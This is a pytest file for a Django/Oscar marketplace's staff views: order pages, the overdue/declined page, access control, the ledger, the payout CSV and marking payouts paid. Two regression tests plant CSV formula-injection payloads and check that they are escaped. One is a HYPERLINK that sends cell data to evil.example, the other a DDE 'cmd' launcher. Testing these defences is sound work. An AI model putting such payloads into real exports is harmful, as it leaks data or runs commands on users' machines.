"""Staff: Oscar's dashboard order list and page still work and show the seller
orders; the page of overdue and declined parts; ledger balances, payout CSV,
marking a payout paid."""

import csv
import datetime as dt
import io

import pytest
from django.contrib.auth.models import Permission
from django.urls import reverse
from django.utils import timezone

from orders.models import LedgerEntry, SellerOrder
from orders.services import seller_order_transition
from sellers.models import Seller, SellerAuditEntry
from tests.factories import StaffFactory, UserFactory, make_product

from .conftest import basket_with, make_booth, place

pytestmark = pytest.mark.django_db


@pytest.fixture
def staff(db):
    user = StaffFactory(username="+989120000009")
    user.user_permissions.add(Permission.objects.get(codename="change_order"))
    return user


@pytest.fixture
def orders(db):
    booth, _ = make_booth("+989121111111", name="چرم نیلوفر")
    booth2, _ = make_booth("+989122222222", name="شیرینی مهر")
    bag = make_product(seller=booth, title="کیف")
    cake = make_product(seller=booth2, title="کیک")
    order = place(basket_with([(bag, 1), (cake, 1)]))
    late, declined = order.seller_orders.order_by("number")
    SellerOrder.objects.filter(pk=late.pk).update(
        accept_deadline=timezone.now() - dt.timedelta(hours=1)
    )
    seller_order_transition(
        seller_order=declined, action="decline", party="seller", note="تمام شد"
    )
    return order, late, declined


def test_dashboard_order_list_and_page(client, orders):
    order, late, declined = orders
    client.force_login(UserFactory(username="admin", is_staff=True, is_superuser=True))
    response = client.get(reverse("dashboard:order-list"))
    assert response.status_code == 200
    assert order.number in response.content.decode()
    page = client.get(reverse("dashboard:order-detail", args=[order.number]))
    body = page.content.decode()
    assert page.status_code == 200
    assert late.number in body and declined.number in body
    assert "چرم نیلوفر" in body and "تمام شد" in body


def test_attention_page(client, staff, orders):
    _, late, declined = orders
    client.force_login(staff)
    body = client.get(reverse("orders_staff:attention")).content.decode()
    assert body.count('data-testid="attention-part"') == 2
    assert "دیرکرد در پذیرش" in body and "تمام شد" in body


def test_staff_pages_are_404_for_others(client, orders):
    for user in (
        None,
        UserFactory(username="+989351234567"),
        StaffFactory(username="plainstaff"),
    ):
        client.logout()
        if user:
            client.force_login(user)
        for name in (
            "orders_staff:attention",
            "orders_staff:ledger",
            "orders_staff:payouts_csv",
        ):
            assert client.get(reverse(name)).status_code == 404
        seller_id = orders[1].seller_id
        before = LedgerEntry.objects.count()
        assert (
            client.post(reverse("orders_staff:payout", args=[seller_id])).status_code
            == 404
        )
        assert LedgerEntry.objects.count() == before


def test_payout_csv_holds_no_formula(client, staff, orders):
    """Issue 24 §1.3: a booth name and an account holder that start with `=`
    reached the payout CSV as formulas."""
    order, late, declined = orders
    for action in ("accept", "ship", "deliver"):
        seller_order_transition(seller_order=late, action=action, party="seller")
    holder = '=HYPERLINK("https://evil.example/?d="&A1,"برداشت")'
    Seller.objects.filter(pk=late.seller_id).update(
        brand_name="=1+1 چرم", payout_account_holder=holder
    )
    client.force_login(staff)
    content = client.get(reverse("orders_staff:payouts_csv")).content
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[1][1] == "'=1+1 چرم"
    assert rows[1][4] == "'" + holder
    assert rows[1][2] == "-62500"  # a real number stays a number


def test_dashboard_order_csv_holds_no_formula(client, orders):
    order, _, _ = orders
    order.shipping_address.last_name = "@SUM(1+1)*cmd|' /C calc'!A0"
    order.shipping_address.save()
    client.force_login(UserFactory(username="admin", is_staff=True, is_superuser=True))
    response = client.post(
        reverse("dashboard:order-list"),
        {"action": "download_selected_orders", "selected_order": [order.pk]},
    )
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert "'@SUM(1+1)*cmd|' /C calc'!A0" in rows[1]


def test_every_csv_report_is_spreadsheet_safe():
    from oscar.core.loading import get_class

    from marketplace.exports import SpreadsheetSafeWriter

    formatter = get_class("dashboard.reports.reports", "ReportCSVFormatter")()
    assert isinstance(formatter.get_csv_writer(io.StringIO()), SpreadsheetSafeWriter)
    for module, name in (
        ("order.reports", "OrderReportCSVFormatter"),
        ("basket.reports", "OpenBasketReportCSVFormatter"),
        ("offer.reports", "OfferReportCSVFormatter"),
        ("voucher.reports", "VoucherReportCSVFormatter"),
        ("analytics.reports", "ProductReportCSVFormatter"),
        ("analytics.reports", "UserReportCSVFormatter"),
        ("dashboard.offers.reports", "OrderDiscountCSVFormatter"),
    ):
        writer = get_class(module, name)().get_csv_writer(io.StringIO())
        assert isinstance(writer, SpreadsheetSafeWriter), name


def test_ledger_csv_and_mark_paid(client, staff, orders):
    order, late, declined = orders
    for action in ("accept", "ship", "deliver"):
        seller_order_transition(seller_order=late, action=action, party="seller")
    client.force_login(staff)
    page = client.get(reverse("orders_staff:ledger")).content.decode()
    assert "چرم نیلوفر" in page
    csv_text = client.get(reverse("orders_staff:payouts_csv")).content.decode(
        "utf-8-sig"
    )
    rows = [r.split(",") for r in csv_text.strip().splitlines()]
    assert rows[0][0] == "seller_id"
    assert [r[1] for r in rows[1:]] == ["چرم نیلوفر"]
    assert rows[1][2] == "-62500"  # she owes 5 % of 1,250,000 rials
    client.post(
        reverse("orders_staff:payout", args=[late.seller_id]), {"note": "واریز ۱۲"}
    )
    payout = LedgerEntry.objects.get(kind="payout")
    assert payout.amount == 62500 and payout.created_by == staff
    assert SellerAuditEntry.objects.filter(action="payout_paid", actor=staff).exists()
    csv_text = client.get(reverse("orders_staff:payouts_csv")).content.decode(
        "utf-8-sig"
    )
    assert len(csv_text.strip().splitlines()) == 1
